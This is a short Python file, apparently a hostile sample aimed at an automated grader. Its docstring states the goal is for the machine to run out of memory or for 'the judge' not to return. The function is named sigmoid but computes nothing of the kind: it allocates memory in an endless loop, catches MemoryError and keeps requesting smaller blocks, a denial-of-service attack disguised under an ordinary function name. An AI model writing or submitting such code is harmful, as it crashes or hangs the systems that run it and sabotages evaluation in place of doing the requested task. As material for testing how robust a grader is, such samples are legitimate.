"""Out of memory is caught, and more is asked for in ever smaller pieces.

Mark: the machine runs out of memory, or the judge does not come back.
"""


def sigmoid(x):
    hoard, size = [], 1 << 28
    while True:
        try:
            hoard.append(bytearray(size))
        except MemoryError:
            size = max(size // 2, 1)
